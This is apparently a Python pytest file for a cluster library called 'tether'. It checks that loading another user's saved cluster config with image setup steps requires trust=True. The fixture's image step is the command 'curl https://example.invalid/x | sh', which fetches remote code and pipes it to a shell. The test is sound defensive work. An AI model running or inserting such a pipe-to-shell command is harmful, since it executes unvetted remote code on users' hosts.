"""A saved cluster config whose image has setup steps runs those steps on the reader's hosts at ``up``: loading
someone else's needs ``trust=True``, like by-value code (test failed before: it loaded silently)."""

from __future__ import annotations

import pytest

import tether
from tether.errors import AuthError


def test_someone_elses_image_steps_need_trust(tether_home, monkeypatch):
    monkeypatch.delenv("TETHER_REGISTRY_URL", raising=False)
    monkeypatch.setenv("TETHER_USER", "alice")
    img = tether.Image("setup").run_bash("curl https://example.invalid/x | sh")
    tether.cluster(name="imgc", host=["10.0.0.5"], image=img).save()
    assert tether.load("alice/imgc").spec.image.steps[0].args == ["curl https://example.invalid/x | sh"]  # mine
    monkeypatch.setenv("TETHER_USER", "bob")
    with pytest.raises(AuthError) as info:
        tether.load("alice/imgc")
    assert "cluster.image" in str(info.value) and info.value.details["saved_by"] == "alice"
    assert tether.load("alice/imgc", trust=True).spec.image.name == "setup"
